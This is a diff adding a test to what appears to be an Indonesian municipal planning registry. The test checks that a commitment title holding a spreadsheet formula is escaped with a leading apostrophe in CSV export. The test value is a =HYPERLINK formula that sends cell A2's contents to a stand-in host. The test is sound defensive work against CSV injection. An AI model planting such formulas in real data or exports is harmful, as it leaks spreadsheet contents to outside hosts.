@@ -286,3 +286,15 @@ def test_the_html_report_carries_a_tim_pembina_section(
     assert 'id="tim-pembina"' in page
     assert "Pelatihan kader enam bidang" in page
     assert "School participation rate, ages 7–15" in page
+
+
+def test_a_commitment_written_as_a_formula_is_text_in_the_csv(registry: Registry) -> None:
+    build_city(registry)
+    hostile = '=HYPERLINK("http://contoh.invalid/?d="&A2,"Klik")'
+    activity = {**PLAN["commitments"][4], "title": hostile}
+    plan = {**PLAN, "commitments": [activity]}
+    registry.save_action_plan(PEMBINA, plan, Purpose.ADMINISTRASI)
+    status = registry.pembina_status(PEMBINA, as_of=AS_OF)
+    rows = list(csv.DictReader(io.StringIO(status.to_csv("id"))))
+    assert rows[0]["title"] == "'" + hostile
+    assert status.commitments[0].title.id == hostile  # stored and shown as typed
